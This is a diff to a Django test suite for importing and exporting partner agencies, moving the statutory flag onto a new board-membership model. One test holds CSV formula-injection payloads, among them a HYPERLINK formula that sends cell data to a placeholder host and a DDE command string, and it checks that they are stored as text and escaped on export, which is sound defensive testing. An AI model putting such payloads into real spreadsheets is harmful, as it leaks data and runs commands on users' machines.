@@ -12,7 +12,7 @@ from django.urls import reverse
 from freezegun import freeze_time
 from openpyxl import Workbook
 
-from partners.models import Partner
+from partners.models import BoardMembership, Partner
 from partners.resources import PartnerResource
 from wscb.audit.models import AuditAction, AuditEvent
 from wscb.data import once
@@ -236,7 +236,14 @@ MALFORMED = [
 
 
 def snapshot():
-    return sorted(Partner.objects.values_list("pk", "name", "short_name", "sector", "is_statutory", "is_active"))
+    return sorted(Partner.objects.values_list("pk", "name", "short_name", "sector", "is_active")) + sorted(
+        BoardMembership.objects.values_list("board", "partner", "is_statutory", "started_on", "ended_on")
+    )
+
+
+def statutory(agency) -> bool:
+    """Whether the agency is a statutory partner of the (only) board."""
+    return BoardMembership.objects.get(partner=agency).is_statutory
 
 
 @pytest.fixture
@@ -276,7 +283,7 @@ def test_a_malformed_file_is_refused_through_the_page_and_nothing_is_imported(
 
 
 @pytest.mark.parametrize(("case", "filename", "make", "expected"), MALFORMED, ids=[case[0] for case in MALFORMED])
-def test_a_malformed_file_is_refused_by_the_programmatic_path_too(case, filename, make, expected, agencies):
+def test_a_malformed_file_is_refused_by_the_programmatic_path_too(case, filename, make, expected, agencies, board):
     before = snapshot()
     upload = SimpleUploadedFile(filename, make())
     try:
@@ -284,7 +291,7 @@ def test_a_malformed_file_is_refused_by_the_programmatic_path_too(case, filename
     except ImportRejected as problem:
         assert expected[0] == "rejected" and expected[1] in str(problem)
     else:
-        outcome = run_import(resource=PartnerResource(), dataset=dataset)
+        outcome = run_import(resource=PartnerResource(board=board), dataset=dataset)
         assert not outcome.ok and expected[0] == "row error"
     assert snapshot() == before
 
@@ -312,7 +319,7 @@ def test_f04_columns_in_another_order_are_matched_by_heading(agencies, as_user, 
 def test_f07_utf8_with_a_byte_order_mark(agencies, as_user, business_support):
     imported(as_user(business_support), "a.csv", b"\xef\xbb\xbf" + csv_bytes(HEADER, "Café Trust,CAFE,Health,Yes,Yes"))
     agency = Partner.objects.get(short_name="CAFE")
-    assert (agency.name, agency.is_statutory) == ("Café Trust", True)
+    assert (agency.name, statutory(agency)) == ("Café Trust", True)
 
 
 def test_f08_windows_1252_from_excel(agencies, as_user, business_support):
@@ -350,14 +357,14 @@ def test_f19_the_same_file_twice_changes_nothing_the_second_time(agencies, as_us
     )
 
 
-def test_f21_formula_like_names_are_stored_as_text_and_escaped_on_export(agencies, as_user, business_support):
+def test_f21_formula_like_names_are_stored_as_text_and_escaped_on_export(agencies, as_user, business_support, board):
     payloads = ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
     rows = [f'"{p.replace(chr(34), chr(34) * 2)}",F{n},Other,No,Yes' for n, p in enumerate(payloads)]
     imported(as_user(business_support), "a.csv", csv_bytes(HEADER, *rows))
     assert sorted(Partner.objects.filter(short_name__startswith="F").values_list("name", flat=True)) == sorted(payloads)
     from wscb.data.exports import csv_content
 
-    exported = PartnerResource().export(Partner.objects.filter(short_name__startswith="F"))
+    exported = PartnerResource(board=board).export(Partner.objects.filter(short_name__startswith="F"))
     text = csv_content(exported.headers, list(exported))
     for payload in payloads:
         assert payload not in text.replace("'" + payload, "")
@@ -398,7 +405,7 @@ def test_an_xlsx_file_is_imported_with_yes_no_and_sector_labels(agencies, as_use
     )
     imported(as_user(business_support), "agencies.xlsx", content)
     agency = Partner.objects.get(short_name="XL")
-    assert (agency.sector, agency.is_statutory, agency.is_active) == ("probation", True, True)
+    assert (agency.sector, statutory(agency), agency.is_active) == ("probation", True, True)
 
 
 def test_too_many_rows_are_refused_before_importing(agencies, as_user, business_support, settings):
@@ -410,7 +417,7 @@ def test_too_many_rows_are_refused_before_importing(agencies, as_user, business_
     assert snapshot() == before
 
 
-def test_a_fault_mid_import_leaves_nothing_behind_and_the_database_usable(agencies, monkeypatch):
+def test_a_fault_mid_import_leaves_nothing_behind_and_the_database_usable(agencies, monkeypatch, board):
     dataset = read_upload(
         SimpleUploadedFile("a.csv", csv_bytes(HEADER, *valid_rows(60))),
         required=PartnerResource.REQUIRED,
@@ -427,7 +434,7 @@ def test_a_fault_mid_import_leaves_nothing_behind_and_the_database_usable(agenci
 
     before = snapshot()
     monkeypatch.setattr(Partner, "save", failing_save)
-    outcome = run_import(resource=PartnerResource(), dataset=dataset)
+    outcome = run_import(resource=PartnerResource(board=board), dataset=dataset)
     assert not outcome.ok
     assert outcome.errors[0].row == 51 and "disk full" in outcome.errors[0].message
     assert snapshot() == before
@@ -494,7 +501,9 @@ def test_the_back_office_explains_why_a_file_was_refused(agencies, as_user, busi
 
 
 def test_the_back_office_export_escapes_formulae(agencies, as_user, business_support):
-    Partner.objects.create(name="=HYPERLINK(1)", short_name="@EVIL", sector="other")
+    from tests.partners.factories import PartnerFactory
+
+    PartnerFactory(name="=HYPERLINK(1)", short_name="@EVIL", sector="other")
     response = as_user(business_support).post(
         reverse("admin:partners_partner_export"),
         {"format": "0", "resource": "0", "partnerresource_name": "on", "partnerresource_short_name": "on"},
